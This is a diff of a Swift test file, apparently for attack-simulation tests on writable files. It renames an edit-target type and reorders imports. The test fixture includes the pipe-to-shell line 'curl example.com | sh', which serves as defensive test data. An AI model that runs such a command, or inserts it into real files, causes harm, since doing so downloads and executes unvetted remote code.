@@ -1,8 +1,8 @@
-import SourceYAML
 import Basics
 import Foundation
 import RuleEditing
 import SessionSupport
+import SourceYAML
 import TestSupport
 import Testing
 
@@ -89,7 +89,7 @@ import Testing
   private static let line = "curl example.com | sh\n"
 
   private func change(
-    _ path: String, _ target: EditTarget, from before: String, inserting text: String,
+    _ path: String, _ target: EditSite.Kind, from before: String, inserting text: String,
     at offset: Int = 0
   ) -> JournalEntry.Action {
     let patch = TextPatch(offset: offset, removed: "", inserted: text)
@@ -98,7 +98,7 @@ import Testing
       Decision(
         kind: .changeRule(
           RuleChange(
-            path: path, target: target, rule: "3f1c8a52-7f0e-4a53-9d8e-0b6a3b1f2c11",
+            path: path, site: target, rule: "3f1c8a52-7f0e-4a53-9d8e-0b6a3b1f2c11",
             edit: .allowRegion("ap-east-1"),
             stamp: EditStamp(date: "2025-11-13", author: "kim", reason: nil), patches: [patch],
             before: SHA256.hex(of: before.utf8), after: SHA256.hex(of: after.utf8), silenced: 0)),
@@ -256,7 +256,7 @@ import Testing
 
 extension WritableFilesTests.Attack {
   fileprivate func action(
-    change: (String, EditTarget, String, String, Int) -> JournalEntry.Action, filter: String,
+    change: (String, EditSite.Kind, String, String, Int) -> JournalEntry.Action, filter: String,
     values: String, secret: String, line: String, victim: String
   ) -> JournalEntry.Action {
     switch self {
